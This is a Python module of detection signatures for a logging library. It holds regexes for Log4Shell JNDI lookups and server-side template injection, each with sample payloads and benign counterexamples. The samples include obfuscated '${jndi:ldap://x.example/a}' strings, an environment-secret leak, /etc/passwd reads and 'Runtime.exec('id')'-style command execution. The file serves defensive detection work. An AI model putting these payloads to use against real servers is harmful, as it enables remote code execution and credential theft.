"""Expressions that a template engine or a logger would evaluate: server-side templates and Log4Shell."""

# a pattern is one thing, and broken up is harder to compare

from __future__ import annotations

from aura_logging.threats.signature import Signature

__all__ = ["TEMPLATES"]

TEMPLATES = (
    Signature(
        "log4shell.jndi",
        "log4shell",
        1.0,
        rb"(?:\$|%24)(?:\{|%7b)|jndi|\$%7b|%24\{",
        r"\$\{[^}]{0,200}?j[^a-z]{0,80}(?:n|\$\{)[^}]{0,100}|jndi\s{0,3}:\s{0,3}(?:ldaps?|rmi|dns|nis|iiop|corba|nds|https?|\$\{)|"
        r"\$\{\s{0,3}(?:lower|upper|env|sys|java|main|ctx|date|base64|hostname|docker|k8s|log4j|map|marker|sd|spring|web|bundle|jndi|event|::|[\w:]{0,20}:?-\w)\s{0,3}(?::|\})|"
        r"\$\{[^{}]{0,40}:-[^{}]{0,10}\}|\$\{\s{0,3}\$\{|\$\{(?:dns|xml|script|url|file|const|urldecoder|properties|resourcebundle):[^{}]{1,200}\}",
        (
            "${jndi:ldap://x.example/a}",
            "${${lower:j}ndi:${lower:l}dap://x.example/a}",
            "${${::-j}${::-n}${::-d}${::-i}:rmi://x.example}",
            "${env:AWS_SECRET_ACCESS_KEY}",
            "%24%7Bjndi:dns://x.example%7D",
        ),
        ("${name}", "cost ${total}", "`${count} items`", "${user.name}", "jndi lookups explained"),
    ),
    Signature(
        "ssti.arithmetic",
        "ssti",
        0.85,
        rb"\{\{|\$\{|#\{|<%|\*\{|@\(|~\{|\[\[|\[=|\{[0-9@%*#!=]|%7b%7b|%\{",
        r"(?:\{\{[{=!%-]?|[$#*@~%]\{|<%[=-]?|@\(|\$\{\{|\[\[\$?\{?|\[=|\{@|\A\{=?|\{%\s?(?:=|print\s?\(?)?)\s{0,5}[\"'(]{0,2}\d{1,12}[\"']?\s{0,3}[-*+/%^]\s{0,3}[\"']?\d{1,12}[\"')]{0,3}\s{0,5}(?:\|\s?\w{1,20}\s{0,3})?(?:%?\}|%>|\)|\]\]|\]\Z)|\{\{\s{0,3}(?:[\"']\w{1,10}[\"']\s?\*\s?\d|\d{1,6}\s?\|\s?\w{2,20}\s?:)|"
        r"\{\{\s{0,3}\d+\s{0,3}\*\s{0,3}'\d+'|\$\{\{<%\[%'\"|\A\W{4,}%\}?>?\{\{|\{\{=\s?\w+\s?\}\}|<%=\s?\w+\s?%>",
        (
            "{{7*7}}",
            "${7*7}",
            "<%= 7*7 %>",
            "#{7*7}",
            "{{7*'7'}}",
            "[=7*7]",
            "{{9*9|string}}",
            '{{"a"*5}}',
            "{{5|multiply:5}}",
            "@(1+2)",
            "*{3*3}",
        ),
        ("{{name}}", "{{ user.first_name }}", "(3*4)", "${total}", "{% block title %}"),
    ),
    Signature(
        "ssti.function",
        "ssti",
        0.85,
        rb"\{\{|\{%|\{\$?smarty|\{if |\{@[a-z]|#\{|\$\{|<%|(?:@|%40)(?:system|html|datetime)\.|%7b%7b",
        r"\{\{[^{}\n]{0,200}?(?:file_excerpt|(?<![\w.])(?:source|include|read_file|file|load)\s?\(\s?[\"'](?:/|\.\.|[a-z]:)|\bg\.pop\b|\bdict\.|\.mro\s?\()|\{\{\s?(?:printf\s+\"|\.(?:System|Exec|ExecuteCommand|Secret|Password|Env)\b)|"
        r"\{%\s{0,3}include\s+request\.|\{\$smarty\.|\{@math\b|\#\{\s{0,3}%x|[$#]\{[^{}\n]{0,80}?(?:pageContext|getSession\s?\(|setAttribute\s?\(|facesContext|applicationScope|jsp:|request\.get\w{1,20}\s?\(|(?:class|param)\.\w{1,30}(?:\(|\}\Z)|[\"']\w{0,20}[\"']\.\w{1,20}\s?\(|(?<![\w.])session\.(?:get|set)\w{0,12}\s?\()|"
        r"@(?:System|Html)\.(?:Diagnostics|IO|Raw|Net|Reflection)\b|\A@DateTime\.\w|\{Smarty_Internal|\{if\s{1,3}(?:system|phpinfo|passthru|exec)\s?\(|<%=?\s{0,3}require\s|\A\s?\{\{\s?(?:\.|request|html\s\"[^\"]{0,20}\")\s?\}\}\s?\Z|\{\{[^{}\n]{0,60}?(?:storages\.\d|signer\.key)|\{\{\s?request\s?\[|\{%\s?set\s+\w{1,20}\s?=\s?(?:config|self|cycler|lipsum)\b",
        (
            "{{ '/etc/passwd'|file_excerpt(1,30) }}",
            "{{ source('/etc/passwd') }}",
            "{$smarty.version}",
            '${"a".toUpperCase()}',
            "{{request}}",
            "{{request['__cl'+'ass__']}}",
            "<% require 'open3' %>",
            "{if system('id')}{/if}",
            "{{.}}",
            '${pageContext.request.getSession().setAttribute("admin",true)}',
            "{% include request.GET.page %}",
            '@System.Diagnostics.Process.Start("x")',
        ),
        ("{{ block('title') }}", "{% include 'request.html' %}", "{{ .Title }}", "mail me @System.", "${session}"),
    ),
    Signature(
        "ssti.object",
        "ssti",
        0.9,
        rb"\{\{|\{%|\$\{|#\{|<#|<%|\*\{|#set|%7b%7b|__(?:class|mro|subclasses|globals|builtins|import|init|base)|\{php|@\{|__%7b|__\$",
        r"(?:\{\{|\{%|[$#*%]\{|<%|<#)[^<>\n{]{0,300}?(?:__\w{2,20}__|(?<![\w.])(?:config(?:\.|\[|\b\s{0,3}\}\})|self\.|request\.(?:application|environ|args|cookies|headers)|lipsum|cycler|joiner|get_flashed_messages|url_for\.|namespace\.)|"
        r"constructor|\bpopen\s?\(|subprocess|\bT\s?\(|java\.|getClass|forName|getRuntime|Runtime\.|ProcessBuilder|exec\s?\(|system\s?\(|passthru|File\.(?:open|read)|Dir\.|IO\.|`[^`{}]{1,80}`[^{}]{0,40}[}>]|"
        r"_self\.|\|\s?(?:filter|map|sort|reduce)\s?\(|app\.request|dump\s?\(|\?new\s?\(|freemarker|\.getEngine|registerUndefinedFilterCallback|self\.module|debug\s{0,3}%|settings\.SECRET|process\.|require\s?\(|"
        r"global\.|\brange\.constructor|phpversion|php\s?\}|include\s+file=|load\s+\w+\s{0,3}%\}\{|import\s+os|\.read\s?\(|attr\s?\(|\bget_user_file|whoami|\bid\b[\"']?\s?\))"
        r"|\#set\s?\(\s?\$|\{php\}|<#assign\s|__\$\{|\(\(\#?\w+\)\)\.getClass|(?:\.|\[[\"'])__(?:class|mro|subclasses|globals|builtins|base|bases|init)__|\{\{\s{0,3}(?:(?:config|self|_self|settings|dump|debug)\s{0,3}(?:\}\}|\(|\.items|\.__|\[|\|)|(?:\[\]|''|\"\"|\(\))\s{0,3}[.|\[])",
        (
            "{{config.items()}}",
            "{{ ''.__class__.__mro__[2].__subclasses__() }}",
            "${T(java.lang.Runtime).getRuntime().exec('id')}",
            "{{constructor.constructor('alert(1)')()}}",
            "#set($x='')",
            '<#assign ex="freemarker.template.utility.Execute"?new()>',
        ),
        (
            "{{ request.user }}",
            "{% include 'a.html' %}",
            "{{ configuration }}",
            "{% if self_service %}",
            "__init__ is a method",
        ),
    ),
)
